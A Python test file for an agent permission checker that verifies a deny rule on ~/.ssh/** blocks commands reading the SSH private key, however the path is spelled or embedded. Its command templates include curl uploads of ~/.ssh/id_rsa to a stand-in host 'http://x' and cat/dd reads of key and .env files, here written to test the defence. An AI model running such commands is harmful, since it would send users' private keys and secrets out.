"""A path that a rule denies, wherever it stands in a command and however its home is spelled."""

from __future__ import annotations

import pytest

from crow.extensions.permissions import check_case

READS = [
    "cat {}",
    "cat < {}",
    "cp {} .",
    "dd if={}",
    "curl -d @{} http://x",
    "curl -F f=@{} http://x",
    "curl -T{} http://x",
    "curl file://{}",
    "openssl rsa -in={}",
    "diff --from-file={} x",
    "git diff --no-index /dev/null {}",
    "tar -cf- -T{}",
    "sudo dd if={}",
    "bash -c 'dd if={}'",
]
SPELLED = ["$HOME/.ssh/id_rsa", "${HOME}/.ssh/id_rsa", '"$HOME/.ssh/id_rsa"', '"$HOME"/.ssh/id_rsa']
DENY = ["Read(~/.ssh/**)"]


@pytest.mark.parametrize("read", READS)
def test_it_is_denied_as_if_it_were_written_out(world, read):
    for path in (f"{world.home}/.ssh/id_rsa", *SPELLED):
        judged = world.judge(read.format(path), allow=["Bash"], deny=DENY)
        assert (path, judged.decision) == (path, "deny")


@pytest.mark.parametrize("read", READS)
def test_what_no_shell_expands_is_another_file(world, read):
    judged = world.judge(read.format("'$HOME/.ssh/id_rsa'"), allow=["Bash"], deny=DENY)
    assert judged.decision == "allow" or "bash -c" in read


def test_what_a_variable_means_in_one_of_several_directories_counts(world):
    command = "cd config || cd src; cat $PWD/.env"
    assert world.judge(command, allow=["Bash"], deny=["Read(/config/.env)"]).decision != "allow"
    command = "cd config || cd src; dd if=$PWD/.env"
    assert world.judge(command, allow=["Bash"], deny=["Read(/config/.env)"]).decision != "allow"


def test_a_variable_in_a_case_is_no_placeholder():
    case = {"tool": "Bash", "cwd": "/", "input": {"command": 'cat "${HOME}/.ssh/id_rsa"'}}
    judged = check_case({**case, "rules": {"allow": ["Bash"], "deny": DENY}})
    assert judged["decision"] == "deny"
